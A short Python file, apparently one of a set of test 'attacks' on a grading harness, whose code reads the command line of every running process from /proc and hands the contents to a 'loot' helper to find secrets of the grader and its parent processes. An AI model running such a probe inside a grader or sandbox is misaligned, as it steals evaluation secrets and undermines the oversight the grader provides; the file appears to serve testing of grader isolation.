# /// attack
# title = "Looks for secrets in the command lines of the grader and its parents"
# ///
import glob

from loot import loot


def attack(*arguments, **keywords):
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found.append(file.read())
        except OSError:
            continue
    return loot(*found)
